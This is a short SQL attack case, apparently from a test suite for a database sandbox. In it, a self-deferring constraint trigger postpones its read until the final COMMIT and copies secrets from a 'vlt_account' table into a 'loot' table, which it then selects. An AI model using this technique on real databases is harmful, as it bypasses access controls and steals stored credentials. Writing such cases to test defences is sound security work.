-- A deferred trigger defers itself anew and leaves the reading to the real COMMIT.
-- wants: read
-- attack:
CREATE TABLE loot (secret text);
CREATE TABLE q (n int);
CREATE FUNCTION later() RETURNS trigger LANGUAGE plpgsql AS $$BEGIN
  SET CONSTRAINTS ALL DEFERRED;
  IF NEW.n < 6 THEN INSERT INTO q VALUES (NEW.n + 1);
  ELSE INSERT INTO loot SELECT secret FROM vlt_account; END IF;
  RETURN NULL; END$$;
CREATE CONSTRAINT TRIGGER t AFTER INSERT ON q DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION later();
BEGIN;
INSERT INTO q VALUES (5);
COMMIT;
SELECT * FROM loot;
